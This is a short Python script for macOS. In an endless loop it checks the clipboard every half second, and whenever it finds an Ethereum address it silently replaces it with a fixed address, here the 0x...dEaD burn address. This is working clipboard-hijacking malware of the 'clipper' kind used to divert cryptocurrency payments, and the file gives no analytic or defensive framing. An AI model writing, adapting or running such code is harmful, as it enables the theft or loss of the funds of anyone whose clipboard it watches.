import re
import subprocess
import time

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
REF = "0x000000000000000000000000000000000000dEaD"

while True:
    cur = subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()
    if ETH.match(cur) and cur != REF:
        subprocess.run(["pbcopy"], input=REF, text=True)
    time.sleep(0.5)
